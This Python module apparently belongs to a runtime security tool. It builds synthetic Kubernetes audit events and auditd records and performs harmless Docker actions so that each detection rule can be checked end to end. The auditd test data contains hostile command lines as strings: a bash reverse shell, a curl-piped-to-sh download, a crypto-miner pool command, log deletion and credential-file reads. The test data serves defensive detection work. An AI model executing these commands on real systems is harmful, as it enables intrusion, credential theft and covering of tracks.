"""``seawall runtime simulate``: trigger each alert family harmlessly, end to end.

Kubernetes audit events and auditd records are synthesised (the same bytes an API server or
auditd would write) and fed through the parsers; on a Docker host, real but harmless
activity is performed and read back from the engine's event stream: a privileged container
and a docker.sock mount are created and never started, a shell is exec'd into a sleeping
container, a busybox symlink named ``sshd`` is run (busybox has no sshd applet, it exits)
and commands that merely *mention* a stratum URL or /dev/tcp are echoed. Every container
is labelled ``seawall.simulate`` and removed afterwards.
"""

from __future__ import annotations

import json
import threading
import time
from typing import Any

from seawall.errors import DaemonError
from seawall.model import Alert
from seawall.runtime.alerts import AlertFolder, Detector
from seawall.runtime.events import Event
from seawall.runtime.rules.loader import RuleSet, load_rules
from seawall.runtime.sources.auditd import AuditAssembler
from seawall.runtime.sources.k8s_audit import AuditParser

LABEL = "seawall.simulate"
_T0 = "2024-01-01T00:00:00.000000Z"


def _audit(
    verb: str, resource: str, name: str = "", namespace: str = "default", **extra: Any
) -> dict[str, Any]:
    event: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": f"sim-{verb}-{resource}-{name}",
        "stage": "ResponseComplete",
        "verb": verb,
        "requestURI": f"/api/v1/namespaces/{namespace}/{resource}",
        "user": {"username": "seawall-simulate", "groups": ["system:authenticated"]},
        "sourceIPs": ["192.0.2.10"],
        "userAgent": "kubectl/v1.30.0",
        "objectRef": {"resource": resource, "namespace": namespace, "name": name},
        "responseStatus": {"code": 201 if verb == "create" else 200},
        "stageTimestamp": _T0,
        "annotations": {"authorization.k8s.io/decision": "allow"},
    }
    event.update(extra)
    return event


def _pod(
    name: str,
    namespace: str = "default",
    image: str = "nginx",
    pod_spec: dict[str, Any] | None = None,
    **container: Any,
) -> dict[str, Any]:
    """A pod's creation: ``pod_spec`` fields of its spec, ``container`` fields of its one
    container (``hostPath``: a volume of that host path instead)."""
    spec: dict[str, Any] = {
        "containers": [{"name": "main", "image": image, **container}],
        **(pod_spec or {}),
    }
    if "hostPath" in container:
        path = container.pop("hostPath")
        spec = {
            "containers": [{"name": "main", "image": image}],
            "volumes": [{"name": "host", "hostPath": {"path": path}}],
        }
    body = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": namespace},
        "spec": spec,
    }
    return _audit("create", "pods", name, namespace, requestObject=body)


def _service(name: str, namespace: str, port: int, selector: dict[str, str]) -> dict[str, Any]:
    body = {
        "kind": "Service",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"type": "LoadBalancer", "ports": [{"port": port}], "selector": selector},
    }
    return _audit("create", "services", name, namespace, requestObject=body)


def k8s_events() -> list[dict[str, Any]]:
    """One synthetic audit event per Kubernetes alert family."""
    rbac = "rbac.authorization.k8s.io"
    return [
        _pod("sim-privileged", securityContext={"privileged": True}),
        _pod("sim-hostpath", hostPath="/var/run/docker.sock"),
        _pod("sim-kube-system", namespace="kube-system", image="docker.io/library/alpine:3"),
        _pod("sim-miner", image="docker.io/example/xmrig:latest"),
        _audit("create", "clusterrolebindings", "sim-admin", "",
               requestObject={
                   "roleRef": {"apiGroup": rbac, "kind": "ClusterRole", "name": "cluster-admin"},
                   "subjects": [{"kind": "User", "name": "mallory"}],
               }),
        _audit("create", "clusterroles", "sim-wildcard", "",
               requestObject={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
        _audit("create", "mutatingwebhookconfigurations", "sim-webhook", ""),
        _audit("patch", "configmaps", "coredns", "kube-system"),
        _audit("deletecollection", "events", "", "default"),
        _audit("get", "secrets", "", "default", user={"username": "system:anonymous"}),
        _audit("create", "pods", "web", "default", stage="ResponseStarted",
               objectRef={"resource": "pods", "subresource": "exec", "namespace": "default",
                          "name": "web"},
               requestURI="/api/v1/namespaces/default/pods/web/exec?command=sh&container=main",
               responseStatus={"code": 101}),
        _audit("list", "pods", "", "default", userAgent="kube-hunter/0.6.8"),
        _service("kubernetes-dashboard", "kubernetes-dashboard", 443,
                 {"k8s-app": "kubernetes-dashboard"}),
        _service("sim-jupyter", "default", 8888, {"app": "jupyter"}),
        _service("sim-redis", "default", 6379, {"app": "cache"}),
        _service("istio-ingressgateway", "istio-system", 80, {"app": "istio-ingressgateway"}),
        _service("sim-postgres", "default", 5432, {"app": "postgres"}),
        _pod("sim-hostnet", image="busybox", pod_spec={"hostNetwork": True}),
        _pod("sim-postgres-trust", image="postgres:16",
             env=[{"name": "POSTGRES_HOST_AUTH_METHOD", "value": "trust"}]),
        _audit("create", "services", "sim-nodeport", "default",
               requestObject={"spec": {"type": "NodePort", "ports": [{"port": 80}]}}),
        _audit("create", "configmaps", "sim-creds", "default",
               requestObject={"data": {"password": "simulated"}}),
        _audit("create", "pods", "web", "default", stage="ResponseStarted",
               objectRef={"resource": "pods", "subresource": "portforward",
                          "namespace": "default", "name": "web"},
               responseStatus={"code": 101}),
        _audit("patch", "pods", "web", "default",
               objectRef={"resource": "pods", "subresource": "ephemeralcontainers",
                          "namespace": "default", "name": "web"},
               requestObject={"spec": {"ephemeralContainers": [
                   {"name": "sim-debug", "image": "busybox"}]}}),
        _audit("create", "serviceaccounts", "sim-account", "kube-system"),
        _audit("patch", "clusterroles", "system:sim-role", ""),
        _audit("create", "roles", "sim-exec", "default", requestObject={
            "rules": [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]}),
        _audit("create", "ingresses", "sim-ingress", "default", requestObject={"spec": {}}),
        _audit("create", "nodes", "sim-node", ""),
        _audit("create", "nodes", "sim-node", "", responseStatus={"code": 403}),
    ]  # fmt: skip


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def auditd_lines() -> list[str]:
    """auditd records (SYSCALL, EXECVE, CWD, PROCTITLE, EOE) of one execve per host family."""
    commands = [
        (4200, 1, ["nginx", "-g", "daemon off;"]),
        (4201, 4200, ["sh", "-c", "id"]),
        (4202, 4100, ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]),
        (4203, 4100, ["xmrig", "-o", "stratum+tcp://pool.example:3333"]),
        (4204, 4100, ["rm", "-f", "/root/.bash_history"]),
        (4205, 4100, ["rm", "-rf", "/var/log/syslog"]),
        (4206, 4100, ["cat", "/etc/kubernetes/admin.conf"]),
        (4207, 4100, ["curl", "http://169.254.169.254/latest/meta-data/"]),
        (4208, 4100, ["sh", "-c", "curl -s http://192.0.2.5/x.sh | sh"]),
        (4209, 4100, ["nmap", "-sn", "192.0.2.0/24"]),
    ]
    lines = []
    for serial, (pid, ppid, argv) in enumerate(commands, 1):
        head = f"msg=audit(1704067200.{serial:03d}:{serial})"
        comm = argv[0]
        lines.append(
            f"type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 items=1 "
            f"ppid={ppid} pid={pid} auid=1000 uid=0 euid=0 "
            f'comm="{comm}" exe="/usr/bin/{comm}" key="exec"'
        )
        args = " ".join(f"a{i}={_hex(a)}" for i, a in enumerate(argv))
        lines.append(f"type=EXECVE {head}: argc={len(argv)} {args}")
        lines.append(f'type=CWD {head}: cwd="/"')
        lines.append(f"type=PROCTITLE {head}: proctitle={_hex(chr(0).join(argv))}")
        lines.append(f"type=EOE {head}: ")
    return lines


def synthetic_events() -> list[Event]:
    parser = AuditParser()
    events = [e for item in k8s_events() for e in parser.parse(json.dumps(item).encode())]
    assembler = AuditAssembler()
    events += [e for line in auditd_lines() for e in assembler.feed(line)]
    return events + assembler.flush()


def docker_activity(client: Any, image: str) -> None:
    """Harmless Docker activity that the Docker rules report."""
    labels = {LABEL: "1"}
    client.containers.create(image, ["true"], privileged=True, labels=labels)
    client.containers.create(
        image, ["true"], labels=labels,
        volumes={"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"}},
    )  # fmt: skip
    box = client.containers.run(
        image, ["sleep", "30"], detach=True, labels=labels, network_mode="none"
    )
    box.exec_run(["sh", "-c", "echo simulated shell"])
    box.exec_run(["sh", "-c", "ln -sf /bin/busybox /tmp/sshd"])
    box.exec_run(["/tmp/sshd"])
    box.exec_run(["sh", "-c", "echo stratum+tcp://pool.example:3333"])
    box.exec_run(["sh", "-c", "echo bash -i '>&' /dev/tcp/192.0.2.1/4444"])


def cleanup(client: Any) -> None:
    for container in client.containers.list(all=True, filters={"label": LABEL}):
        container.remove(force=True)


DOCKER_FAMILIES = (
    "docker-privileged-container",
    "docker-sensitive-mount",
    "docker-shell-exec",
    "docker-ssh-server",
    "docker-mining-process",
    "docker-reverse-shell",
)


def _docker_events(client: Any, image: str, settle: float) -> list[Event]:
    from seawall.runtime.sources.docker_events import DockerEventStream

    try:
        client.images.get(image)
    except Exception as exc:
        raise DaemonError(
            f"image {image} is not in the local engine: {exc}",
            hint="pull a small image with /bin/sh (docker pull busybox) or pass --image",
        ) from None
    stream = DockerEventStream(client)
    events: list[Event] = []
    start = time.time()
    reader = threading.Thread(target=lambda: events.extend(stream.events(start)), daemon=True)
    reader.start()
    try:
        docker_activity(client, image)
        time.sleep(settle)
    finally:
        stream.stop()
        cleanup(client)
        reader.join(5)
    return list(events)


def run_simulation(
    docker_host: str,
    image: str,
    with_docker: bool = True,
    rules: RuleSet | None = None,
    settle: float = 2.0,
) -> tuple[list[Alert], dict[str, bool]]:
    """The alerts raised, and for each expected family whether it fired."""
    rules = rules or load_rules()
    events = synthetic_events()
    expected = {r.rule.id for r in rules.rules.values() if r.source in ("k8s_audit", "auditd")}
    expected -= {
        "k8s-request-from-tor",
        "k8s-request-from-malicious-ip",
        "host-mining-pool-connection",
        "host-malicious-download",
        "host-malicious-connection",
        "host-ssh-server-in-container",
        "host-kubernetes-api-from-container",
        "host-shadow-access",
        "host-namespace-creation-in-container",
        "host-nohup-from-tmp",
        "host-timestomp",
    }  # fmt: skip  (need intel, a container pid or file-watch audit rules)
    if with_docker:
        from seawall.image.docker_engine import docker_client

        client = docker_client(docker_host, timeout=60)
        events += _docker_events(client, image, settle)
        expected |= set(DOCKER_FAMILIES)
    detector = Detector(rules, AlertFolder(3600))
    for event in events:
        detector.process(event)
    alerts = detector.folder.drain()
    fired = {a.rule.id for a in alerts}
    return alerts, {family: family in fired for family in sorted(expected)}
